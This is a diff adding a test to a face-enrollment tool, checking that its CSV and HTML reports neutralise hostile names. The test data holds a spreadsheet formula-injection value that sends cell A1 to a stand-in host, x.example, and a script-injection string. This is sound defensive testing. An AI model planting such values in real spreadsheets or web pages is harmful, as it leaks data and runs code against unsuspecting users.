@@ -59,3 +59,17 @@ def test_given_a_dry_run_when_rows_repeat_a_face_or_an_enrolled_photo_then_it_re
     dry = reasons(run(ctx, second, man, dry_run=True))
     assert dry == {1: "ALREADY_ENROLLED", 2: "ENROLLED", 3: "DUPLICATE_FACE"}
     assert reasons(run(ctx, second, man)) == dry
+
+
+def test_given_hostile_names_when_reported_then_csv_cells_cannot_run_formulas_and_html_is_escaped(
+    ctx: AppContext, faces_dir: Path, tmp_path: Path
+) -> None:
+    a = lfw_people(faces_dir, 1)[0][0]
+    d = _folder(tmp_path, "hostile", {"a.jpg": a})
+    formula, script = '=HYPERLINK("http://x.example/?"&A1,"点我")', "<script>alert(1)</script>"
+    res = run(ctx, d, write_manifest(d, [(ids(1)[0], formula, "a.jpg"), (ids(2)[1], script, "missing.jpg")]))
+    text = res.reports["csv"].read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+    html = res.reports["html"].read_text(encoding="utf-8")
+    assert "<script>alert" not in html and "&lt;script&gt;" in html
+    assert "fonts-noto-cjk" in html  # the fallback note for machines without a Chinese font
